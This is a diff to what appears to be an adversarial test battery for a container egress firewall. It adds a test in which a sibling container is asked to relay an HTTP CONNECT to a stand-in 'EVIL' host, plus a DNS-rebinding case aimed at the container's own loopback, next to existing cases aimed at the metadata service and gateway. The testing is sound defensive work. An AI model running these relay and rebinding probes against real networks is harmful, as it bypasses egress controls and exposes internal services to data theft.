@@ -112,6 +112,16 @@ def _():
         time.sleep(0.3)
 
 
+@row("sibling.relay", "github/gh-aw-firewall, adversarial battery M1 to M5: a neighbour as a relay", "evil:8080 raw")
+def _():
+    """Another container that connects for whoever asks."""
+    with dial(SIBLING, 3129) as sock:
+        sock.sendall(f"CONNECT {EVIL}:8080 HTTP/1.1\r\nHost: {EVIL}\r\n\r\n".encode())
+        listen(sock)
+        sock.sendall(T + b"\n")
+        listen(sock)
+
+
 def rebind(id, addresses, seen, sentence, source=REBINDING):
     name = f"rebind-{id}.example"
 
@@ -134,6 +144,7 @@ def rebind(id, addresses, seen, sentence, source=REBINDING):
 rebind("metadata", ["169.254.169.253"], "metadata:80 raw", "A listed name that leads to the metadata service.")
 rebind("gateway", [GATEWAY], "gateway:80 raw", "A listed name that leads to the host.")
 rebind("sibling", ["172.30.0.33"], "sibling:80 raw", "A listed name that leads to another container.")
+rebind("loopback", [], "loopback:80 raw", "A listed name that leads to a service of the container's own.")
 rebind("ula", [SIBLING6], "sibling:80 raw", "A listed name that leads to a private IPv6 address.")
 rebind("mapped", [f"::ffff:{GATEWAY}"], "gateway:80 raw", "A listed name that leads to the host in IPv6 clothes.")
 rebind("cname", [GATEWAY], "gateway:80 raw", "A listed name that is another name for one inside.")
